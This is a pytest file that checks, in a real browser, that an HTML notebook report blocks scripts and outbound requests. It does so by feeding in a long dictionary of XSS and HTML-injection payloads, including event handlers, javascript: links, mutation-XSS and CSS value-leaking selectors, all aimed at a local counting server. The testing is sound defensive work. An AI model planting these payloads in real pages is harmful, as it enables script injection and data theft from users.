"""What a notebook gave as HTML is looked at in a browser: nothing of it runs, nothing asks anybody, and the page can be read."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING

import pytest
from selenium.common.exceptions import TimeoutException, WebDriverException
from selenium.webdriver.common.by import By

from r2i.check.execution.runs import (
    BuildRun,
    Cause,
    CellRun,
    DynamicReport,
    Failure,
    Level,
    Mismatch,
    NotebookRun,
    Output,
)
from r2i.check.findings import Finding, Reported
from r2i.check.formats.html_report import to_html
from r2i.check.report import Report
from r2i.check.rules import RULES
from tests.waiting import until

if TYPE_CHECKING:
    from selenium.webdriver import Chrome

#: Known ways to run a script or to ask a server from HTML. `URL` is a server that counts who comes.
PAYLOADS = {
    "script": "<script>top.hacked = 1; fetch('URL')</script><script src='URL/x.js'></script>",
    "module": "<script type=module>import 'URL/x.js'</script>",
    "image": "<img src=x onerror='top.hacked = 1'><img src='URL/x.png' srcset='URL/y.png 2x'>",
    "svg": "<svg onload='top.hacked = 1'><script>top.hacked = 1</script><image href='URL/x.svg'/><use href='URL/y.svg#a'/></svg>",
    "svg animation": "<svg><a><animate attributeName=href values='javascript:top.hacked=1' /><text y=20>x</text></a>"
    "<set attributeName=onmouseover to='top.hacked=1'/></svg>",
    "link to a script": "<a href='javascript:top.hacked=1'>press</a><a href=' &#1;java&#10;script:top.hacked=1'>press</a>",
    "link with ping": "<a href='#' ping='URL/ping'>press</a><a href='URL/away' target=_top>press</a><a href='URL/new' target=_blank>press</a>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL/refresh'><meta http-equiv=refresh content='0;url=javascript:top.hacked=1'>",
    "base": "<base href='URL/' target=_top><img src=base.png><script src=base.js></script>",
    "frame with srcdoc": "<iframe srcdoc=\"<script>top.hacked = 1</script><img src='URL/srcdoc.png'>\"></iframe>",
    "frame": "<iframe src='URL/frame'></iframe><iframe src='javascript:top.hacked=1'></iframe><frameset><frame src='URL/f2'></frameset>",
    "frame of data": "<iframe src='data:text/html,<script>top.hacked=1;fetch(`URL`)</script>'></iframe>",
    "form": "<form action='URL/form'><input name=a autofocus onfocus='top.hacked = 1'><button>press</button></form>"
    "<form id=f><button formaction='javascript:top.hacked=1'>press</button></form>",
    "style": "<style>@import 'URL/x.css'; body { background: url(URL/bg.png) } @font-face { font-family: e; src: url(URL/f.woff) } "
    "p { font-family: e; behavior: url(URL/x.htc); width: expression(top.hacked=1); -moz-binding: url(URL/x.xml) }</style><p>text</p>",
    "style that guesses": "<input value=secret><style>input[value^=s] { background: url(URL/s) } input { list-style: url(URL/l); cursor: url(URL/c), auto }</style>",
    "stylesheet": "<link rel=stylesheet href='URL/x.css'><link rel=icon href='URL/i.ico'><link rel=manifest href='URL/m.json'>",
    "hints": "<link rel=preload as=image href='URL/pre.png'><link rel=prefetch href='URL/fetch'><link rel=modulepreload href='URL/m.js'>"
    "<link rel=prerender href='URL/render'>",
    "connection": "<link rel=preconnect href='URL'><LINK/rel=dns-prefetch href='URL'>",
    "connection of a frame": "<iframe srcdoc='&lt;link rel=preconnect href=URL>&#60;link rel=preconnect href=URL>'></iframe>",
    "object": "<object data='URL/x.swf'></object><object data='data:text/html,<script>top.hacked=1</script>'></object>",
    "embed": "<embed src='URL/x.pdf'><embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.hacked=1\"/>'><applet code=x archive='URL/a.jar'></applet>",
    "media": "<video src='URL/v.mp4' poster='URL/p.png' autoplay onerror='top.hacked=1'></video><audio autoplay><source src='URL/a.ogg' onerror='top.hacked=1'></audio>"
    "<video><track default src='URL/t.vtt'></video>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.hacked=1&gt;'>",
    "mutation of noscript": '<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>',
    "mathml": "<math href='javascript:top.hacked=1'><mi xlink:href='javascript:top.hacked=1'>press</mi></math>"
    "<math><maction actiontype='statusline#URL/m' xlink:href='javascript:top.hacked=1'>press</maction></math>",
    "template": "<template shadowrootmode=open><img src=x onerror='top.hacked=1'><slot onslotchange='top.hacked=1'></slot></template>",
    "markdown": "[press](javascript:top.hacked=1) ![x](URL/md.png) <javascript:top.hacked=1> [x]: URL/ref",
    "out of a textarea": "</textarea></title></style></script></xmp></noembed></iframe><img src=x onerror='top.hacked=1'><script>top.hacked=1</script>",
    "out of srcdoc": "\"></iframe><script>top.hacked=1</script><img src='URL/out.png'>",
    "out of a comment": "--><!--><img src=x onerror=top.hacked=1>--!><script>top.hacked=1</script>",
    "out of cdata": "<![CDATA[><script>top.hacked=1</script>]]><?xml-stylesheet href='URL/x.xsl'?>",
    "events": "<details open ontoggle='top.hacked=1'>x</details><marquee onstart='top.hacked=1'>x</marquee>"
    "<body onload='top.hacked=1' background='URL/body.png'><p onanimationstart='top.hacked=1' style='animation: a 1s'>x</p><style>@keyframes a {}</style>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'; report-uri URL/report\">"
    "<script>top.hacked=1</script>",
    "clobbering": "<form id=location name=document><input name=cookie id=body></form><a id=top href='javascript:top.hacked=1'>press</a>",
    "template language": "{{ 7 * 7 }}{% raw %}${top.hacked=1}<%= 1 %>",
    "unusual bytes": "<scr\x00ipt>top.hacked=1</scr\x00ipt><\x00script>top.hacked=1</script><img\x0csrc=x\x0bonerror=top.hacked=1>",
    "popover": "<button popovertarget=p>press</button><div popover id=p onbeforetoggle='top.hacked=1'>x</div>",
}


class Counter(ThreadingHTTPServer):
    """A server that remembers who connected, also without a request."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.seen: list[str] = []

    def verify_request(self, request: object, client_address: object) -> bool:
        self.seen.append("a connection")
        return super().verify_request(request, client_address)  # type: ignore[arg-type]


class Answer(BaseHTTPRequestHandler):
    timeout = 5

    def do_GET(self) -> None:
        assert isinstance(self.server, Counter)
        self.server.seen.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - http.server looks for these names

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def counter() -> Iterator[Counter]:
    """One for all payloads: a browser comes back for the icon of a page that it has left."""
    with Counter() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()


@pytest.fixture
def seen(counter: Counter) -> list[str]:
    counter.seen.clear()
    return counter.seen


@pytest.fixture
def url(counter: Counter) -> str:
    return f"http://127.0.0.1:{counter.server_port}"


def html(text: str) -> Output:
    return {"output_type": "display_data", "data": {"text/html": text}}


def page_of(payload: str) -> str:
    """The report of a notebook that says the payload wherever it can."""
    drawing: Output = {
        "output_type": "display_data",
        "data": {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{payload}</svg>'
        },
    }
    frame = html(f"<p>before</p>{payload}")
    text: Output = {"output_type": "stream", "name": "stdout", "text": payload}
    cell = CellRun(
        number=1,
        source=payload,
        status="failed",
        outputs=(frame, drawing, text),
        stored=(drawing, frame, text),
    )
    run = NotebookRun(
        path=payload,
        kernel=payload,
        statuses={Level.L2: "failed"},
        failure=Failure(
            kind="error", message=payload, hint=payload, cell=1, source=payload, traceback=(payload,) * 20
        ),
        cells=(cell,),
        mismatches=(
            Mismatch(cell=1, what="text/html", message=payload),
            Mismatch(cell=1, what=payload, message="x"),
        ),
        notes=(payload,),
    )
    cause = Cause(
        code="file-missing",
        message=payload,
        evidence=payload,
        change=payload,
        hint=payload,
        file=payload,
        line=1,
    )
    dynamic = DynamicReport(
        asked=Level.L3,
        tried=Level.L3,
        build=BuildRun(seconds=1, image=payload),
        runs=(run,),
        causes={payload: (cause,)},
        notes=(payload,),
    )
    finding = Finding(message=payload, file=payload, line=1, hint=payload)
    report = Report(findings=(Reported(rule=RULES[0], finding=finding),), dynamic=dynamic, unfinished=payload)
    return to_html(report, title=payload, diff=[payload])


def open_page(browser: Chrome, path: Path) -> None:
    """Chromium sometimes never ends loading a frame whose picture the policy refuses; all else is there by then."""
    browser.set_page_load_timeout(10)
    with suppress(TimeoutException):
        browser.get(path.as_uri())


def press_everything(browser: Chrome) -> None:
    """What somebody might press in an output: links and buttons."""
    for element in browser.find_elements(By.CSS_SELECTOR, "a, button, mi, maction, summary"):
        try:
            element.click()
        except WebDriverException:  # not to be seen, or gone
            continue


@pytest.mark.browser
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_in_a_browser_no_output_runs_or_asks_anybody(
    payload: str, browser: Chrome, url: str, seen: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    path.write_text(page_of(payload.replace("URL", url)), encoding="utf-8")
    open_page(browser, path)
    frames = browser.find_elements(By.TAG_NAME, "iframe")

    assert len(frames) >= 2
    for frame in frames:
        browser.switch_to.frame(frame)
        assert "before" in browser.find_element(By.TAG_NAME, "body").text
        press_everything(browser)
        browser.switch_to.default_content()
    assert browser.execute_script("return window.hacked") is None
    assert browser.execute_script("return document.scripts.length") == 0
    assert browser.current_url.partition("#")[0] == path.as_uri()
    assert len(browser.window_handles) == 1
    assert "Levels" in browser.find_element(By.TAG_NAME, "body").text
    assert "Details" in browser.find_element(By.TAG_NAME, "body").text
    # The server answers, and what the page had asked before would have been seen.
    browser.get(f"{url}/last")
    until(lambda: "/last" in seen)
    assert not set(seen[: seen.index("/last")]) - {"a connection", "/favicon.ico"}


@pytest.mark.browser
@pytest.mark.parametrize(
    "payload", [PAYLOADS["connection"], PAYLOADS["connection of a frame"], PAYLOADS["hints"]]
)
def test_in_a_browser_no_output_even_connects(
    payload: str, browser: Chrome, url: str, tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    with Counter() as lonely:
        Thread(target=lonely.serve_forever, daemon=True).start()
        path.write_text(
            page_of(payload.replace("URL", f"http://127.0.0.1:{lonely.server_port}")), encoding="utf-8"
        )
        open_page(browser, path)
        browser.get(f"{url}/last")
        lonely.shutdown()

    assert not lonely.seen


@pytest.mark.browser
def test_without_its_protection_the_payloads_would_have_been_seen(
    browser: Chrome, url: str, seen: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "page.html"
    payloads = PAYLOADS["script"] + PAYLOADS["image"]
    path.write_text(f"<!doctype html>{payloads}".replace("URL", url), encoding="utf-8")
    browser.get(path.as_uri())
    until(lambda: {"/x.js", "/x.png"} <= {*seen} or {"/x.js", "/y.png"} <= {*seen})

    assert browser.execute_script("return window.hacked") == 1
